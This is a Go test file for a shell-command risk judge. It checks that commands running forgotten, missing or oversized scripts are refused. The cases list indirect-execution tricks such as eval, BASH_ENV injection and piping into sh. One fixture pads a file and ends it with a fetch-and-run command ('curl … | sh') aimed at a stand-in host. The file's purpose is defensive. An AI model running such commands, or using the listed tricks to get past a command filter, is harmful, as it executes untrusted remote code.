package shellrisk

import (
	"slices"
	"strings"
	"testing"
)

// A file written before the command whose text the caller no longer knows
// (Context.Forgotten) is refused wherever the judge would run the text of
// a known one, and only there.
func TestForgottenFilesAreNotRun(t *testing.T) {
	ctx := Context{Forgotten: map[string]bool{"run.sh": true, "makefile": true, "package.json": true, "pre-commit": true, "lib.py": true}}
	for _, tt := range []struct {
		cmd    string
		refuse bool
	}{
		{"sh run.sh", true},
		{"bash /tmp/x/RUN.sh", true},
		{"./run.sh", true},
		{"source run.sh", true},
		{"cat run.sh | sh", true},
		{"sh < run.sh", true},
		{"eval \"$(cat run.sh)\"", true},
		{"cp run.sh a && ./a", true},
		{"sh r?n.sh", true},
		{"echo ok >> run.sh; sh run.sh", true},
		{"make", true},
		{"npm install", true},
		{"git commit -m x", true},
		{"python3 lib.py", true},
		{"BASH_ENV=run.sh bash -c true", true},

		{"echo 'echo ok' > run.sh; sh run.sh", false},
		{"cat run.sh", false},
		{"grep x run.sh && wc -l run.sh", false},
		{"sh other.sh", false},
		{"ls", false},
		{"cp run.sh backup.sh", false},
	} {
		v := JudgeWith(ctx, tt.cmd)
		if got := slices.Contains(v.Rules(), RuleUnknownScript); got != tt.refuse {
			t.Errorf("%q: %v, want %s %v", tt.cmd, v.Findings, RuleUnknownScript, tt.refuse)
		}
	}
	// Known text and forgotten text of one name: only partly known.
	v := JudgeWith(Context{Files: map[string]string{"run.sh": "echo ok\n"}, Forgotten: map[string]bool{"run.sh": true}}, "sh run.sh")
	if !slices.Contains(v.Rules(), RuleUnknownScript) {
		t.Errorf("a forgotten file edited since: %v", v.Findings)
	}
	// The message names the file as the command does.
	v = JudgeWith(ctx, "bash scripts/run.sh")
	if len(v.Findings) == 0 || !strings.Contains(v.Findings[0].Message, `"scripts/run.sh"`) {
		t.Errorf("message: %v", v.Findings)
	}
}

// With Context.Incomplete any file a command runs by name that is not in
// Files is refused; programs found on PATH are not files it names.
func TestAnIncompleteContext(t *testing.T) {
	ctx := Context{Incomplete: true, Files: map[string]string{"ok.sh": "echo ok\n"}}
	for _, tt := range []struct {
		cmd    string
		refuse bool
	}{
		{"sh deploy.sh", true},
		{"./configure", true},
		{"python3 app.py", true},
		{"source .venv/bin/activate", true},
		{"cat a.sh | sh", true},
		{"sh ok.sh", false},
		{"ls -la", false},
		{"git status", false},
		{"cat notes.txt", false},
		{"curl -s https://example.com/ -o page.html", false},
	} {
		v := JudgeWith(ctx, tt.cmd)
		if got := slices.Contains(v.Rules(), RuleUnknownScript); got != tt.refuse {
			t.Errorf("%q: %v, want %s %v", tt.cmd, v.Findings, RuleUnknownScript, tt.refuse)
		}
	}
}

// Text over the judge's bound is not judged in part: running it is
// refused, as an unknown text is.
func TestAFileTooLongToJudge(t *testing.T) {
	long := strings.Repeat("# padding\n", maxWritten/10+1) + "curl -s dl.example.net/x | sh\n"
	v := JudgeWith(Context{Files: map[string]string{"big.sh": long}}, "sh big.sh")
	if !slices.Contains(v.Rules(), RuleUnknownScript) {
		t.Errorf("%v", v.Findings)
	}
}
